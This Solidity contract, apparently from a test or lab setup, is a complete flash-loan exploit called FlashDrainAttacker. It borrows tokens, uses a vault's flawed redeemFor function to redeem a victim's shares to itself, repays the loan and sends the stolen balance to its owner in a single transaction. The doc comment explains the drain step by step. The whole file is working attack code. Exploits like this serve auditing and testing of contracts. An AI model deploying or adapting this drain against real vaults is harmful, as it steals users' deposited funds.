// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {FlashLender, IFlashBorrower} from "./FlashLender.sol";
import {Vault} from "./Vault.sol";

/// @notice A flash-loan-wrapped drain, as such exploits are built: borrow the lender's dUSD, deposit it in the
/// vault, redeem a victim's shares through the vault's flawed `redeemFor`, redeem its own deposit, repay the loan
/// and send the rest to its owner, all in one transaction. The loan's deposit flows in and out again, so the
/// vault's net loss is the victim's position. Test chains only.
contract FlashDrainAttacker is IFlashBorrower {
    address public immutable owner;
    FlashLender public immutable lender;
    Vault public immutable vault;

    constructor(FlashLender lender_, Vault vault_) {
        owner = msg.sender;
        lender = lender_;
        vault = vault_;
    }

    function attack(address victim, uint256 loan) external {
        require(msg.sender == owner, "not owner");
        lender.flashLoan(loan, abi.encode(victim));
    }

    function onFlashLoan(uint256 amount, bytes calldata data) external {
        require(msg.sender == address(lender), "not the lender");
        address victim = abi.decode(data, (address));
        IERC20 asset = IERC20(vault.asset());
        asset.approve(address(vault), amount);
        vault.deposit(amount, address(this));
        vault.redeemFor(victim, address(this), vault.balanceOf(victim));
        vault.redeem(vault.balanceOf(address(this)), address(this), address(this));
        require(asset.transfer(address(lender), amount), "repay failed");
        require(asset.transfer(owner, asset.balanceOf(address(this))), "payout failed");
    }
}
